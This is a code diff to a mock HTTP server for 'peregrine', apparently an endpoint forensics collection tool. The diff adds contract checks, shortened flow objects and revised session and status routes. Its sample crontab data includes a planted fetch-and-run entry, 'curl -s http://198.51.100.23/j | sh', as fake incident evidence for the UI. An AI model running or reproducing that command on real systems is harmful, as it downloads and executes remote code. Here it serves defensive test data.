@@ -5,11 +5,11 @@ import { createReadStream, existsSync, statSync } from 'node:fs';
 import { createServer } from 'node:http';
 import { extname, join, normalize } from 'node:path';
 import { createGzip, gzipSync } from 'node:zlib';
+import { answerOf, checkAnswer } from './contract.mjs';
 import { ARTIFACTS, fileRows, iso, makeClients, makeProcesses, NOW, pstreeRows } from './data.mjs';
 
 const CSP = "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; font-src 'self'; connect-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'";
 const TYPES = { '.html': 'text/html; charset=utf-8', '.js': 'text/javascript', '.css': 'text/css', '.svg': 'image/svg+xml', '.woff2': 'font/woff2' };
-const PERMISSIONS = ['READ_RESULTS', 'COLLECT_CLIENT', 'COLLECT_BASIC', 'LABEL_CLIENT', 'SERVER_ADMIN', 'ANY_QUERY', 'ARTIFACT_WRITER'];
 
 /** With `growEveryMs: null` collections bring rows when `grow` is called, and only then. */
 export function createMock({ processes = 5000, files = 10_000, clients = 320, dist = null, growEveryMs = 700, eventsEveryMs = 0 } = {}) {
@@ -28,7 +28,7 @@ export function createMock({ processes = 5000, files = 10_000, clients = 320, di
   };
   const first = state.clients[0];
   const tree = makeProcesses(processes);
-  const flowOf = (flow_id, artifacts, stateName, created, rows, more = {}) => ({ flow_id, client_id: first.client_id, artifacts, state: stateName, status: null, creator: 'jana', created: iso(created), started: iso(created + 800), last_active: iso(created + 5200), finished_at: stateName === 'finished' || stateName === 'error' ? iso(created + 5200) : null, duration_ms: 4400, rows, logs: 6, uploaded_files: 0, uploaded_bytes: 0, sources: artifacts.map((name) => ({ name, rows })), urgent: false, request: { artifacts: artifacts.map((artifact) => ({ artifact, parameters: {} })), timeout: 600 }, limits: { timeout: 600, max_rows: 1_000_000, max_upload_bytes: 1_048_576_000 }, query_stats: [], ...more });
+  const flowOf = (flow_id, artifacts, stateName, created, rows, more = {}) => ({ ...answerOf('GET clients/:id/flows/:flow'), flow_id, client_id: first.client_id, artifacts, state: stateName, status: null, creator: 'jana', created: iso(created), started: iso(created + 800), last_active: iso(created + 5200), finished_at: stateName === 'finished' || stateName === 'error' ? iso(created + 5200) : null, duration_ms: 4400, rows, logs: 6, uploaded_files: 0, uploaded_bytes: 0, sources: artifacts.map((name) => ({ name, rows })), urgent: false, request: { artifacts: artifacts.map((artifact) => ({ artifact, parameters: {} })), timeout: 600 }, limits: { ...answerOf('GET clients/:id/flows/:flow').limits, timeout: 600, max_rows: 1_000_000, max_upload_bytes: 1_048_576_000 }, query_stats: [], ...more });
   const logs = (flow, count) => ({ columns: [{ name: 'client_time', type: 'number' }, { name: 'level', type: 'log_level' }, { name: 'message' }], rows: Array.from({ length: count }, (_, at) => [Math.floor((NOW - 60e3 + at * 10e3) / 1000), ['INFO', 'DEBUG', 'INFO', 'WARN', 'INFO', 'ERROR'][at % 6], ['starting query execution', 'file accessor: opened /home', 'progress: 2,048 rows', 'glob: permission denied on `/root/.ssh`', 'query finished in 4.4 s', 'upload: file vanished while reading `/tmp/.x`'][at % 6]]) });
   const tableKey = (flow, source) => `${flow.client_id}/${flow.flow_id}/${source}`;
   const put = (flow, source, table) => state.tables.set(tableKey(flow, source), table);
@@ -41,13 +41,14 @@ export function createMock({ processes = 5000, files = 10_000, clients = 320, di
   put(failed, 'Linux.Sys.Crontab/CronTabs', { columns: [{ name: 'Minute' }, { name: 'Hour' }, { name: 'Command' }, { name: 'Path' }], rows: [['17', '*', 'cd / && run-parts --report /etc/cron.hourly', '/etc/crontab'], ['25', '6', 'test -x /usr/sbin/anacron', '/etc/crontab'], ['*/5', '*', 'curl -s http://198.51.100.23/j | sh', '/var/spool/cron/crontabs/deploy']] });
   const info = flowOf('F.BN2HP3OMINFO', ['Generic.Client.Info'], 'finished', NOW - 86400e3, 9, { creator: 'InterrogationService', sources: [{ name: 'Generic.Client.Info/BasicInformation', rows: 1 }, { name: 'Generic.Client.Info/Users', rows: 4 }] });
   const named = (...names) => names.map((name) => ({ name }));
+  const firstPage = { total: 1, offset: 0, complete: true };
   const interrogation = {
     flow_id: info.flow_id,
     finished_at: info.finished_at,
     tables: [
-      { name: 'Generic.Client.Info/BasicInformation', columns: named('Name', 'BuildTime', 'Version', 'Hostname', 'OS', 'Architecture', 'Platform', 'PlatformVersion', 'KernelVersion', 'Fqdn', 'MACAddresses'), rows: [['peregrine', '2026-11-20T09:12:44Z', '0.1.0', first.hostname, 'linux', 'amd64', 'debian', '13.1', '6.12.48', first.fqdn, first.mac_addresses]] },
-      { name: 'Generic.Client.Info/Users', columns: named('User', 'Uid', 'Gid', 'Homedir', 'Shell'), rows: [['root', 0, 0, '/root', '/bin/bash'], ['deploy', 1000, 1000, '/home/deploy', '/bin/bash'], ['ci', 1001, 1001, '/opt/ci', '/usr/sbin/nologin'], ['www-data', 33, 33, '/var/www', '/usr/sbin/nologin']] },
-      { name: 'Generic.Client.Info/Interfaces', columns: named('Name', 'HardwareAddr', 'MTU', 'Up', 'Addrs'), rows: [['lo', '', 65536, true, ['127.0.0.1/8', '::1/128']], ['eth0', first.mac_addresses[0], 1500, true, first.addresses]] },
+      { ...firstPage, name: 'Generic.Client.Info/BasicInformation', columns: named('Name', 'BuildTime', 'Version', 'Hostname', 'OS', 'Architecture', 'Platform', 'PlatformVersion', 'KernelVersion', 'Fqdn', 'MACAddresses'), rows: [['peregrine', '2026-11-20T09:12:44Z', '0.1.0', first.hostname, 'linux', 'amd64', 'debian', '13.1', '6.12.48', first.fqdn, first.mac_addresses]] },
+      { ...firstPage, name: 'Generic.Client.Info/Users', columns: named('User', 'Uid', 'Gid', 'Homedir', 'Shell'), rows: [['root', 0, 0, '/root', '/bin/bash'], ['deploy', 1000, 1000, '/home/deploy', '/bin/bash'], ['ci', 1001, 1001, '/opt/ci', '/usr/sbin/nologin'], ['www-data', 33, 33, '/var/www', '/usr/sbin/nologin']] },
+      { ...firstPage, name: 'Generic.Client.Info/Interfaces', columns: named('Name', 'HardwareAddr', 'MTU', 'Up', 'Addrs'), rows: [['lo', '', 65536, true, ['127.0.0.1/8', '::1/128']], ['eth0', first.mac_addresses[0], 1500, true, first.addresses]] },
     ],
   };
   info.sources.forEach((source, index) => put(info, source.name, interrogation.tables[index]));
@@ -69,7 +70,9 @@ export function createMock({ processes = 5000, files = 10_000, clients = 320, di
     const id = state.eventId++;
     for (const stream of state.streams) if (topics.some((topic) => stream.topics.has(topic))) stream.response.write(`id: ${id}\nevent: ${kind}\ndata: ${JSON.stringify(data)}\n\n`);
   }
-  const pushFlow = (flow) => push('flow', flow, ['flows', `flows:${flow.client_id}`, `flow:${flow.client_id}/${flow.flow_id}`]);
+  /** A collection as lists and pushes tell it. */
+  const short = ({ limits, query_stats, request, uploads, ...flow }) => (void [limits, query_stats, request, uploads], flow);
+  const pushFlow = (flow) => push('flow', short(flow), ['flows', `flows:${flow.client_id}`, `flow:${flow.client_id}/${flow.flow_id}`]);
 
   if (eventsEveryMs > 0) {
     const name = 'Linux.Events.ProcessExecutions';
@@ -123,7 +126,7 @@ export function createMock({ processes = 5000, files = 10_000, clients = 320, di
     const client = state.clients[1 + Math.floor(Math.random() * 20)];
     client.online = !client.online;
     client.last_seen = iso(Date.now());
-    push('client', { client_id: client.client_id, online: client.online, last_seen: client.last_seen }, ['clients', `client:${client.client_id}`]);
+    push('client', client, ['clients', `client:${client.client_id}`]);
   }, 4000);
   const heartbeat = setInterval(() => {
     for (const stream of state.streams) stream.response.write(': alive\n\n');
@@ -189,6 +192,7 @@ export function createMock({ processes = 5000, files = 10_000, clients = 320, di
   };
   const vqlText = (body, id) => `SELECT collect_client(\n    client_id='${id ?? 'C.…'}',\n    artifacts=[${body.artifacts.map((each) => `'${each.artifact}'`).join(', ')}],\n    spec=dict(${body.artifacts.map((each) => `\`${each.artifact}\`=dict(${Object.entries(each.parameters ?? {}).map(([name, value]) => `${name}='${value}'`).join(', ')})`).join(',\n      ')}))\nFROM scope()`;
 
+  const userOf = (name) => ({ ...answerOf('GET session').user, name });
   let failures = 0;
   const routes = [
     ['POST', 'session', ({ body, response }) => {
@@ -200,9 +204,9 @@ export function createMock({ processes = 5000, files = 10_000, clients = 320, di
       const id = Math.random().toString(36).slice(2);
       state.sessions.set(id, { name: body.username, csrf: `csrf-${id}` });
       response.setHeader('Set-Cookie', `peregrine_session=${id}; HttpOnly; SameSite=Strict; Path=/`);
-      return { user: { name: body.username }, csrf_token: `csrf-${id}` };
+      return { user: userOf(body.username), csrf_token: `csrf-${id}` };
     }],
-    ['GET', 'session', ({ session }) => ({ user: { name: session.name, roles: ['administrator'], permissions: PERMISSIONS }, csrf_token: session.csrf, server: { name: 'peregrine', version: '0.1.0', started_at: iso(NOW) } })],
+    ['GET', 'session', ({ session }) => ({ ...answerOf('GET session'), user: userOf(session.name), csrf_token: session.csrf })],
     ['DELETE', 'session', ({ sessionId }) => void state.sessions.delete(sessionId)],
     ['PUT', 'session/password', ({ body }) => void (body.current !== 'peregrine' ? fail(403, 'wrong_password', 'the current password is wrong') : body.new.length < 12 && fail(400, 'weak_password', 'the new password has fewer than 12 characters; use a longer one'))],
     ['GET', 'clients', ({ query }) => {
@@ -228,10 +232,11 @@ export function createMock({ processes = 5000, files = 10_000, clients = 320, di
     }],
     ['POST', 'clients/:id/interrogate', ({ id, session }) => start(id, { artifacts: [{ artifact: 'Generic.Client.Info', parameters: {} }] }, session)],
     ['GET', 'artifacts', ({ query }) => ({ artifacts: ARTIFACTS.filter((each) => (!query.get('type') || each.type === query.get('type')) && `${each.name} ${each.description}`.toLowerCase().includes((query.get('search') ?? '').toLowerCase())).map(({ raw, ...rest }) => (void raw, rest)) })],
-    ['GET', 'artifacts/:id', ({ id }) => ARTIFACTS.find((each) => each.name === id) ?? fail(404, 'not_found', `no artifact \`${id}\``)],
+    ['GET', 'artifacts/:artifact', ({ artifact }) => ARTIFACTS.find((each) => each.name === artifact) ?? fail(404, 'not_found', `no artifact \`${artifact}\``)],
     ['POST', 'artifacts/compile', ({ body }) => {
       check(body);
-      return { requests: body.artifacts.map((each) => ({ statements: [`LET ProcessRegex <= ProcessRegex`, `SELECT * FROM Artifact.${each.artifact}()`], env: each.parameters })), equivalent_vql: vqlText(body), equivalent_api: { method: 'POST', path: '/api/v1/clients/C.…/flows', body } };
+      const answer = answerOf('POST artifacts/compile');
+      return { ...answer, requests: body.artifacts.map((each) => ({ ...answer.requests[0], statements: [`LET ProcessRegex <= ProcessRegex`, `SELECT * FROM Artifact.${each.artifact}()`], env: each.parameters })), equivalent_vql: vqlText(body), equivalent_api: { method: 'POST', path: '/api/v1/clients/C.…/flows', body } };
     }],
     ['POST', 'clients/:id/flows', ({ id, body, session, response }) => {
       check(body);
@@ -245,14 +250,14 @@ export function createMock({ processes = 5000, files = 10_000, clients = 320, di
       const sign = query.get('desc') === 'true' ? -1 : 1;
       flows = [...flows].sort((a, b) => sign * (typeof a[sort] === 'number' ? a[sort] - b[sort] : text(a[sort]).localeCompare(text(b[sort]))));
       const offset = Number(query.get('offset') ?? 0);
-      return { total: flows.length, flows: flows.slice(offset, offset + Number(query.get('limit') ?? 100)) };
+      return { total: flows.length, flows: flows.slice(offset, offset + Number(query.get('limit') ?? 100)).map(short) };
     }],
     ['GET', 'clients/:id/flows/:flow', ({ id, flow }) => flowBy(id, flow)],
     ['POST', 'clients/:id/flows/:flow/cancel', ({ id, flow, session }) => {
       const found = flowBy(id, flow);
       Object.assign(found, { state: 'cancelled', status: `Cancelled by ${session.name}`, finished_at: iso(Date.now()) });
       pushFlow(found);
-      return found;
+      return short(found);
     }],
     ['DELETE', 'clients/:id/flows/:flow', ({ id, flow }) => void state.flows.splice(state.flows.indexOf(flowBy(id, flow)), 1)],
     ['GET', 'clients/:id/flows/:flow/results', ({ id, flow, query }) => {
@@ -291,10 +296,13 @@ export function createMock({ processes = 5000, files = 10_000, clients = 320, di
       return {
         clients: state.clients.filter((client) => `${client.hostname} ${client.client_id} ${client.addresses}`.toLowerCase().includes(q)).slice(0, 6).map(({ client_id, hostname, online }) => ({ client_id, hostname, online })),
         artifacts: q ? ARTIFACTS.filter((each) => each.name.toLowerCase().includes(q)).slice(0, 8).map(({ name, type, description }) => ({ name, type, description })) : [],
-        flows: [...state.flows].sort((a, b) => b.created.localeCompare(a.created)).filter((flow) => `${flow.flow_id} ${flow.artifacts}`.toLowerCase().includes(q)).slice(0, 6),
+        flows: [...state.flows].sort((a, b) => b.created.localeCompare(a.created)).filter((flow) => `${flow.flow_id} ${flow.artifacts}`.toLowerCase().includes(q)).slice(0, 6).map(short),
       };
     }],
-    ['GET', 'server/status', () => ({ connected_agents: state.clients.filter((client) => client.online).length, clients: state.clients.length, flows_running: state.flows.filter((flow) => !flow.finished_at).length, rows_stored: 48_210_344, refused: { malformed: 3, bad_hmac: 0, bad_nonce: 17, too_large: 0, damaged: 1, bad_enrolment: 0, conflict: 2, too_many: 1_204, too_slow: 6 }, datastore: { path: '/var/lib/peregrine', free_bytes: 412e9, trouble: null } })],
+    ['GET', 'server/status', () => {
+      const answer = answerOf('GET server/status');
+      return { ...answer, connected_agents: state.clients.filter((client) => client.online).length, clients: state.clients.length, flows_running: state.flows.filter((flow) => !flow.finished_at).length, rows_stored: 48_210_344, refused: { ...answer.refused, malformed: 3, bad_nonce: 17, damaged: 1, conflict: 2, too_many: 1_204, too_slow: 6 } };
+    }],
   ];
   function check(body) {
     for (const each of body.artifacts ?? []) {
@@ -385,6 +393,7 @@ export function createMock({ processes = 5000, files = 10_000, clients = 320, di
         if (answer === 'sent') return;
         if (answer === undefined) response.writeHead(204).end();
         else {
+          checkAnswer(`${method} ${pattern}`, answer);
           response.setHeader('Content-Type', 'application/json');
           const text = JSON.stringify(answer);
           if (packs(request)) response.setHeader('Content-Encoding', 'gzip');
